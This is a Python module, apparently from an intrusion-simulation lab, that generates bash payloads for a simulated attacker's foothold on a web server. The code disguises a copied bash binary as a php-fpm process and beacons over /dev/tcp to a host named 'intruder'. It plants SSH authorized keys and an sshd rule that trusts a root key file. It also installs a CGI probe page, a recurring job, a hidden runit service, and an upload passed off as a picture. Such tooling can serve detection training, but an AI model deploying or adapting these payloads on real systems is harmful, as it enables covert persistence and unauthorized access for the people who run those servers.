"""What the one who has no business there leaves on the server: only in this lab, only on this server.

The process says who it is and that it is still there. It takes no orders, and reads nothing of anybody's.
"""

import os
import shlex

PORT = int(os.environ.get("KIKORI_PORT", "4000"))
LEFT = int(os.environ.get("KIKORI_LEFT", "1"))
EXTRAS = {"upload": ("key", "page", "job"), "ssh": ("rule", "page", "job"), "job": ("key", "page", "service")}
"""By the way in: what is planted besides. One of the three is left out."""

TALK = """id=ID; while :; do
if exec 3<>/dev/tcp/intruder/PORT; then
printf 'hello %s %s %s %s %s %s\\n' "$id" "$$" "$sum" "$there" "$pids" "$planted" >&3
while read -r -t 30 line <&3; do printf 'here\\n' >&3; done; exec 3>&-
fi; sleep 1; done"""

START = """
begin() {
  mkdir -p "$place"
  exec 8< "$place"
  flock -n 8 || return 0
  { cat /bin/bash; head -c 16 /dev/urandom; } > "$place/$program"
  chmod 700 "$place/$program"
  sum=$(sha256sum < "$place/$program"); sum=${sum%% *}
  pids=$(pgrep -lx 'runsvdir|runsv|svlogd|run|nginx|sshd|fcgiwrap' | tr ' \\n' ':,')
  planted=$(for file in "${files[@]}"; do
    [ ! -f "$file" ] || printf '%s %s %s\\n' "$(stat -c %Y "$file")" "$(sha256sum < "$file" | cut -c-64)" "$file"
  done | base64 -w 0)
  there=$(cd /proc && echo [0-9]* | tr ' ' ,)
  export sum there pids planted
  id=$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \\n')
  printf '%s\\n' "${talk/ID/$id}" > "$place/.s"
  setsid -f bash -c 'exec -a "$0" "$1" < "$2" > /dev/null 2>&1' "$disguise" "$place/$program" "$place/.s"
  sleep 0.3
  rm -f "$place/$program" "$place/.s"
}
"""

SENT = "files+=(/srv/site/pictures/concert-*.cgi)\n"
"""What was sent as a picture before, though nothing has run it."""

PLANT = {
    "key": """
grep -qsF "$key" /srv/site/.ssh/authorized_keys || printf '%s\\n' "$key" >> /srv/site/.ssh/authorized_keys
files+=(/srv/site/.ssh/authorized_keys)
""",
    "page": """
[ -e "/srv/site/cgi/$page.cgi" ] || printf '%s' "$probe" > "/srv/site/cgi/$page.cgi"
chmod 755 "/srv/site/cgi/$page.cgi"
files+=("/srv/site/cgi/$page.cgi")
""",
    "rule": """
mkdir -p /etc/ssh/keys
printf '%s\\n' "$key" > /etc/ssh/keys/root
echo 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u' > /etc/ssh/sshd_config.d/20-keys.conf
files+=(/etc/ssh/keys/root /etc/ssh/sshd_config.d/20-keys.conf)
sv hup sshd > /dev/null
""",
    "job": """
printf '%s' "$again" > "$jobs/$planted_job"
chmod 755 "$jobs/$planted_job"
files+=("$jobs/$planted_job")
""",
    "service": """
mkdir -p "/etc/.$planted_job"
[ -e "/etc/.$planted_job/run" ] || printf '%s' "$again" > "/etc/.$planted_job/run"
chmod 755 "/etc/.$planted_job/run"
ln -sfn "/etc/.$planted_job" "/etc/service/$planted_job"
files+=("/etc/.$planted_job/run")
""",
}


def settings():
    """What differs from attempt to attempt, as assignments."""
    told = {
        "disguise": os.environ.get("KIKORI_DISGUISE", "php-fpm: pool www"),
        "program": os.environ.get("KIKORI_PROGRAM", "kdevtmpd"),
        "place": os.environ.get("KIKORI_PLACE", "/var/tmp/.cache-x"),
        "page": os.environ.get("KIKORI_PAGE", "stats"),
        "planted_job": os.environ.get("KIKORI_JOB", "zz-cleanup"),
        "talk": TALK.replace("PORT", str(PORT)),
    }
    return "".join(f"{name}={shlex.quote(value)}\n" for name, value in told.items()) + "files=()\n"


def probe(token):
    """A program for the web that only shows that it runs."""
    return (
        f"#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nprintf '%s' \"{token} $QUERY_STRING\" | sha256sum\n"
    )


def begins():
    """See to it that the process is there, and no more: as a job does, or a service."""
    return f"#!/bin/bash\n{settings()}{START}\nbegin\nsleep 0.5\n"


def extras(way):
    """What is planted besides a way in."""
    return [one for number, one in enumerate(EXTRAS[way], 1) if number != LEFT]


def comes(way, token, key, before=""):
    """Plant what is to be planted, and see to it that the process is there."""
    jobs = "/srv/site/jobs" if way == "upload" else "/etc/often"
    told = {"key": key, "probe": probe(token), "again": begins(), "jobs": jobs}
    known = "".join(f"{name}={shlex.quote(value)}\n" for name, value in told.items())
    planted = "".join(PLANT[one] for one in extras(way))
    return f"{settings()}{known}{before}{planted}{START}\nbegin\n"


def upload(token, key):
    """A picture that is none: shown as it is, it harms nobody."""
    before = 'files+=("$SCRIPT_FILENAME")\n'
    body = comes("upload", token, key, before)
    return (
        "#!/bin/bash\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\n"
        f"printf '%s' \"{token} $QUERY_STRING\" | sha256sum\n"
        '[ "$QUERY_STRING" = come ] || exit 0\nexec > /dev/null 2>&1\n' + body
    )


def job(token, key):
    """A job that comes again, and plants the rest when it is first run."""
    mark = 'me=$(readlink -f "$0"); files+=("$me")\n' + SENT
    body = comes("job", token, key, mark)
    return f"#!/bin/bash\n{body}"
